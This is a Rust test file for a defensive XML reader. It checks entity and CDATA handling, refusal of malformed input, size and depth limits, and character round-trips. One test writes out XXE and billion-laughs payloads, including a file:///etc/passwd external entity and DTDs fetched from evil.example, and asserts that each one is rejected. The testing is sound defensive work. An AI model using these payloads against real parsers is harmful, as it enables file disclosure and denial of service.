//! Reading what may be hostile, and reading back what was written.

use super::super::xml::Element;

fn read(document: &str) -> Option<Element> {
    Element::read(document.as_bytes())
}

fn text(document: &str) -> Option<String> {
    read(document)?.text(&["B"]).map(str::to_owned)
}

#[test]
fn text_is_read_through_references_cdata_comments_and_line_ends() {
    for (document, expected) in [
        ("<A><B>x</B></A>", "x"),
        ("\u{feff}<?xml version='1.0' encoding='UTF-8' ?>\n<A>\n <B> x </B>\n</A>\n", "x"),
        ("<A><B>&lt;&gt;&amp;&apos;&quot;&#65;&#x42;</B></A>", "<>&'\"AB"),
        ("<A><B>a<![CDATA[<&>]]>b<!-- c -->d</B></A>", "a<&>bd"),
        ("<A c='d'><B e=\"f\">x\r\ny</B></A>", "x\ny"),
    ] {
        assert_eq!(text(document).as_deref(), Some(expected), "{document}");
    }
    for none in [
        "<A/>",
        "<A><B/></A>",
        "<A><B> </B></A>",
        "<A><B>1</B><B>2</B></A>",
        "<A><C><B>x</B></C></A>",
        "<A><B>5<C/>00</B></A>",
        "<A><B>500<C>no</C></B></A>",
    ] {
        assert!(read(none).is_some() && text(none).is_none(), "{none}");
    }
}

#[test]
fn entities_of_its_own_are_refused_before_they_can_grow_or_reach_anything() {
    let laughs = r#"<?xml version="1.0"?><!DOCTYPE A [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
        <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><A><B>&c;</B></A>"#;
    let file = r#"<!DOCTYPE A [<!ENTITY f SYSTEM "file:///etc/passwd">]><A><B>&f;</B></A>"#;
    let remote = r#"<!DOCTYPE A SYSTEM "http://evil.example/a.dtd"><A><B>x</B></A>"#;
    let parameter = r#"<!DOCTYPE A [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]><A><B>x</B></A>"#;
    let late = "<A><B>x</B></A><!DOCTYPE A>";
    for document in [laughs, file, remote, parameter, late, "<A><B>&a;</B></A>", "<A><B>&nbsp;</B></A>"] {
        assert!(read(document).is_none(), "{document}");
    }
}

#[test]
fn what_is_not_one_well_formed_document_is_refused() {
    for document in [
        "",
        "garbage",
        "<html><body>Bad gateway<br></body></html>",
        "<A>",
        "<A><B></A></B>",
        "</A>",
        "<A/></A>",
        "<A/><A/>",
        "<A/>x",
        "x<A/>",
        "<A><B>a & b</B></A>",
        "<A><B>&lt</B></A>",
        "<A><B>&#0;</B></A>",
        "<A><B>&#8;</B></A>",
        "<A><B>\u{8}</B></A>",
        "<A><B>\u{fffe}</B></A>",
        "<A c='\0'/>",
        "<A><B>&#xFFFE;</B></A>",
        "<A><B>&#xD800;</B></A>",
        "<A><B>&#x110000;</B></A>",
        "<?php evil ?><A/>",
        "<A><?xml-stylesheet href='x'?></A>",
        "<A><?xml version='1.0'?></A>",
        "<?xml version='1.0'?><?xml version='1.0'?><A/>",
        "<A><![CDATA[x</A>",
        "<A><!-- x</A>",
    ] {
        assert!(read(document).is_none(), "{document}");
    }
    assert!(Element::read(b"<A>\xff</A>").is_none());
    assert!(Element::read(&[0xff, 0xfe, b'<', 0, b'A', 0]).is_none());
}

#[test]
fn depth_number_and_size_are_bounded() {
    let deep = |depth: usize| format!("{}{}", "<A>".repeat(depth), "</A>".repeat(depth));
    assert!(read(&deep(16)).is_some() && read(&deep(17)).is_none() && read(&deep(200_000)).is_none());
    let wide = |elements: usize| format!("<A>{}</A>", "<B/>".repeat(elements - 1));
    assert!(read(&wide(10_000)).is_some() && read(&wide(10_001)).is_none());
    let long = |bytes: usize| format!("<A>{}</A>", "x".repeat(bytes - 7));
    assert!(read(&long(1 << 20)).is_some() && read(&long((1 << 20) + 1)).is_none());
}

fn round_trip(text: &str) -> bool {
    let written = Element::node("A", vec![Element::leaf("B", text), Element::leaf("C", "")]);
    let read = read(std::str::from_utf8(&written.document().unwrap()).unwrap());
    read.is_some_and(|read| read == written)
}

#[test]
fn every_character_is_read_back_as_it_was_written() {
    let all: Vec<char> = ('\0'..=char::MAX).collect();
    for some in all.chunks(4_000) {
        assert!(round_trip(&some.iter().collect::<String>()));
    }
    let kept = |text: &str| Element::leaf("A", text) == Element::leaf("A", "\u{fffd}");
    assert!(["\0", "\u{b}", "\u{fffe}", "\u{ffff}"].into_iter().all(kept));
}

/// Texts put together at random from what means something to XML; the seed is fixed, so a failure comes back.
#[test]
fn any_text_is_read_back_as_it_was_written() {
    let parts = [
        "<",
        ">",
        "&",
        "\"",
        "'",
        "]]>",
        "<![CDATA[",
        "<!--",
        "-->",
        "<?",
        "?>",
        "&lt;",
        "&#13;",
        "&#0;",
        "&x;",
        "\r",
        "\n",
        "\t",
        " ",
        "\u{85}",
        "\u{2028}",
        "\u{feff}",
        "\u{ffff}",
        "é",
        "🪑",
        "a",
        "</B>",
        "",
    ];
    let mut seed = 0x9e37_79b9_u32;
    let mut random = |below: usize| {
        seed = seed.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (seed >> 8) as usize % below
    };
    for _ in 0..20_000 {
        let text: String = (0..random(12)).map(|_| parts[random(parts.len())]).collect();
        assert!(round_trip(&text), "{text:?}");
    }
}
